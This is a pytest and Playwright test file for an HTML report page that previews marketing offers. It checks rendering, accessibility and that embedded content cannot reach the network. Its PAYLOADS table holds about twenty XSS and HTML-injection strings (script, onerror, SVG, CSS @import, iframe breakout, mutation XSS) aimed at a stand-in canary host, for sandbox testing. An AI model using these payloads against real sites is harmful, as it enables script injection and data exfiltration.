"""The page of `offers report` in a real browser: what it shows, who can use it, and that no content gets out."""

from __future__ import annotations

from collections.abc import Iterator
from importlib.resources import files
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from offer_resources.emulator import Emulator, running
from offer_resources.inspection.preview import parsed
from offer_resources.inspection.report import page as report
from offer_resources.inspection.report.story import tell
from tests.support.browser import launched
from tests.support.previews import EMAIL, PLACE, a_preview, a_step, a_urn, an_html, shown_in

ABOUT = report.About("offers", "prod", "sandbox prod of organisation E2E@AdobeOrg", "2026-12-01 08:00 UTC")
BANNER, MAIL = "dps:offer-placement:1", "dps:offer-placement:2"
PLACEMENTS = [
    a_step("same", "banner", {"name": "Web banner"}, {"name": "Web banner"}, kind="Placement", id_=BANNER),
    a_step("same", "mail", {"name": "Mail header"}, {"name": "Mail header"}, kind="Placement", id_=MAIL),
]

# The rules of axe-core, which the package ships as one script.
AXE = (files("axe_playwright_python") / "axe.min.js").read_text(encoding="utf-8")

OUTSIDE = "http://canary.example"

# Each would ask for /canary/… if it could.
PAYLOADS = {
    "script": '<script>new Image().src = "{url}/canary"</script>',
    "module": '<script type="module" src="{url}/canary"></script>',
    "handler": '<img src="data:," onerror="new Image().src = \'{url}/canary\'" alt="">',
    "image": '<img src="{url}/canary" alt="">',
    "picture": '<picture><source srcset="{url}/canary"><img src="data:," alt=""></picture>',
    "svg": '<svg onload="fetch(\'{url}/canary\')"><image href="{url}/canary"/></svg>',
    "svg use": '<svg><use href="{url}/canary#x"/><script>fetch("{url}/canary")</script></svg>',
    "style": '<style>@import "{url}/canary"; body {{ background: url("{url}/canary") }}</style>',
    "font": '<style>@font-face {{ font-family: f; src: url("{url}/canary") }} * {{ font-family: f }}</style>f',
    "stylesheet": '<link rel="stylesheet" href="{url}/canary"><link rel="prefetch" href="{url}/canary">',
    "inline style": '<p style="background: url({url}/canary)">text</p>',
    "refresh": '<meta http-equiv="refresh" content="0;url={url}/canary">',
    "base": '<base href="{url}/canary/"><img src="x" alt="">',
    "frame": '<iframe src="{url}/canary"></iframe><object data="{url}/canary"></object><embed src="{url}/canary">',
    "inner frame": "<iframe srcdoc=\"<img src='{url}/canary'>\"></iframe>",
    "breakout": '"></iframe><img src="{url}/canary"><script>fetch("{url}/canary")</script>',
    "breakout of quotes": "&quot;&gt;</iframe><img src='{url}/canary'>",
    "policy": '</body></html><meta http-equiv="content-security-policy" content="img-src *"><img src="{url}/canary">',
    "media": '<video src="{url}/canary" autoplay></video><audio src="{url}/canary" autoplay></audio>',
    "mutation": "<math><mtext><table><mglyph><style><img src=x onerror=\"fetch('{url}/canary')\">",
    "mutation of noscript": '<noscript><p title="</noscript><img src={url}/canary>">',
    "template": "{{{{ 7 * 7 }}}}{{% include 'x' %}}",
}


@pytest.fixture(scope="module")
def outside() -> Iterator[Emulator]:
    """Yield a server that notes what it is asked for."""
    with running() as emulator:
        yield emulator


@pytest.fixture(scope="module")
def browser(outside: Emulator) -> Iterator[Browser]:
    """Yield a browser for which every host on the network is that server.

    Playwright sees no request of a sandboxed frame, so a real server has to.
    """
    host = outside.url.removeprefix("http://")
    with launched(f"--host-resolver-rules=MAP * {host}", "--disable-features=LocalNetworkAccessChecks") as browser:
        yield browser


@pytest.fixture
def page(page: Page, outside: Emulator) -> Page:
    """Return an empty page that has asked for nothing yet."""
    outside.clear_requests()
    return page


def asked(outside: Emulator) -> list[tuple[str, str | None]]:
    """The paths of the canary's host that were asked for, with the referrers; the browser has errands of its own."""
    return [
        (request.path, request.headers.get("referer"))
        for request in outside.requests
        if request.headers.get("host") == "canary.example"
    ]


def first_asked(outside: Emulator, page: Page) -> list[tuple[str, str | None]]:
    """Return what was asked for, once something was."""
    for _ in range(100):
        if found := asked(outside):
            return found
        page.wait_for_timeout(20)
    raise AssertionError("nothing was asked for")


def written(folder: Path, *steps: object, warnings: dict[str, str] | None = None, with_images: bool = False) -> str:
    """Return the address of a page about these steps."""
    story = tell(parsed(a_preview(*PLACEMENTS, *steps, warnings=warnings)))  # type: ignore[arg-type]  # steps are dicts
    file = folder / "report.html"
    file.write_text(report.render(story, ABOUT, with_images=with_images), encoding="utf-8")
    return file.as_uri()


def an_offer(*representations: object, **more: object) -> dict[str, object]:
    return {"name": "Hero", "status": "approved", **PLACE, "representations": list(representations), **more}


def test_change_is_shown_before_beside_after(page: Page, tmp_path: Path) -> None:
    before, after = (an_offer(shown_in(BANNER, an_html(f"<h1>{text}</h1>"))) for text in ("30 euros", "25 euros"))
    page.goto(written(tmp_path, a_step("update", "hero", before, after, ["representations[0]"])))

    expect(page.get_by_role("heading", level=1)).to_have_text(
        "The next update will change 1 object in sandbox prod of organisation E2E@AdobeOrg."
    )
    for title, text in (("Before", "30 euros"), ("After", "25 euros")):
        frame = page.frame_locator(f"iframe[title^='{title}']")
        expect(frame.get_by_role("heading", name=text)).to_be_visible()
    page.get_by_text("The words that differ").click()
    expect(page.locator("pre.words del")).to_have_text("30")
    expect(page.locator("pre.words ins")).to_have_text("25")


def test_content_has_the_width_of_a_phone_a_desktop_or_a_mail(page: Page, tmp_path: Path) -> None:
    offer = an_offer(shown_in(BANNER, an_html("web")), shown_in(MAIL, an_html("mail"), channel=EMAIL))
    page.goto(written(tmp_path, a_step("create", "hero", None, offer)))

    def widths() -> list[int]:
        frames = page.locator("iframe").all()
        return [int(frame.evaluate("frame => frame.clientWidth")) for frame in frames]

    assert widths() == [375, 600]
    page.get_by_label("desktop").check()
    assert widths() == [1280, 600]


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS)
def test_no_content_gets_out(page: Page, outside: Emulator, tmp_path: Path, payload: str) -> None:
    """The image that is asked for at the end shows that a request would have been seen."""
    nasty = payload.format(url=OUTSIDE)
    offer = an_offer(shown_in(BANNER, an_html(nasty)), shown_in(MAIL, an_image()), name=nasty, description=nasty)
    page.goto(written(tmp_path, a_step("create", nasty, None, offer), warnings={a_urn(nasty): nasty, "": nasty}))
    page.locator("iframe").first.scroll_into_view_if_needed()
    for frame in page.frames:
        frame.wait_for_load_state("load")
    for summary in page.locator("summary").all():
        summary.click()
    page.get_by_role("button", name="Load the image").click()

    assert first_asked(outside, page) == [("/image", None)]
    assert page.url.startswith("file:")
    assert "49" not in page.locator("h2").first.inner_text()


def test_link_and_form_in_content_lead_nowhere(page: Page, outside: Emulator, tmp_path: Path) -> None:
    content = (
        f'<a href="{OUTSIDE}/canary" target="_top">top</a> <a href="{OUTSIDE}/canary">here</a>'
        f'<form action="{OUTSIDE}/canary"><button>Send</button></form>'
    )
    page.goto(written(tmp_path, a_step("create", "hero", None, an_offer(shown_in(BANNER, an_html(content))))))
    frame = page.frame_locator("iframe")
    for one in (frame.get_by_text("top"), frame.get_by_role("button"), frame.get_by_text("here")):
        one.click()
    page.wait_for_load_state("networkidle")

    assert asked(outside) == []
    assert page.url.startswith("file:")


def an_image() -> dict[str, object]:
    return {"type": "imagelink", "format": "image/png", "deliveryURL": f"{OUTSIDE}/image"}


def test_image_loads_on_a_click_without_a_referrer(page: Page, outside: Emulator, tmp_path: Path) -> None:
    step = a_step("create", "hero", None, an_offer(shown_in(BANNER, an_image())))
    page.goto(written(tmp_path, step))
    page.wait_for_load_state("networkidle")
    assert asked(outside) == []

    page.get_by_role("button", name="Load the image").click()
    expect(page.get_by_role("img", name="After: the image of Hero")).to_be_visible()
    assert first_asked(outside, page) == [("/image", None)]


def test_images_load_at_once_where_that_was_asked_for(page: Page, outside: Emulator, tmp_path: Path) -> None:
    html = an_html(f'<img src="{OUTSIDE}/image" alt="in the text">')
    step = a_step("create", "hero", None, an_offer(shown_in(BANNER, html)))
    page.goto(written(tmp_path, step, with_images=True))
    page.locator("iframe").scroll_into_view_if_needed()
    assert first_asked(outside, page) == [("/image", None)]


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [375, 1200])
def test_axe_finds_nothing(page: Page, tmp_path: Path, scheme: str, width: int) -> None:
    before, after = (
        an_offer(shown_in(BANNER, an_html(text)), shown_in(MAIL, an_image()), labels=[text], name=text)
        for text in ("Old", "New")
    )
    steps = [
        a_step("update", "hero", before, after, ["name", "labels", "representations"]),
        a_step("delete", "gone", an_offer(), None),
        a_step("create", "draft", None, an_offer(status="draft")),
        a_step("same", "rest", an_offer(), an_offer()),
    ]
    page.emulate_media(color_scheme="dark" if scheme == "dark" else "light")
    page.set_viewport_size({"width": width, "height": 900})
    page.goto(written(tmp_path, *steps, warnings={"": "careful", a_urn("hero"): "it has ended"}))
    page.evaluate(AXE)
    violations = [
        (one["id"], [node["html"] for node in one["nodes"]]) for one in page.evaluate("axe.run()")["violations"]
    ]
    overflow = page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")

    assert violations == []
    assert overflow == 0
